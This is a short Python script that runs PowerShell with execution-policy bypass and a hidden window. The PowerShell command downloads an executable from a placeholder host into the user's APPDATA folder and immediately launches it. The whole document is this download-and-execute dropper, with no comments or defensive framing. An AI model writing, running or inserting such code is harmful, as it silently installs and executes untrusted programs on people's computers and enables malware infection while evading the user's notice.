import subprocess

subprocess.run(
    ["powershell", "-ep", "bypass", "-w", "hidden", "-c",
     "Invoke-WebRequest -Uri https://win.example.invalid/u.exe -OutFile $env:APPDATA\\u.exe; Start-Process $env:APPDATA\\u.exe"],
    check=False,
)
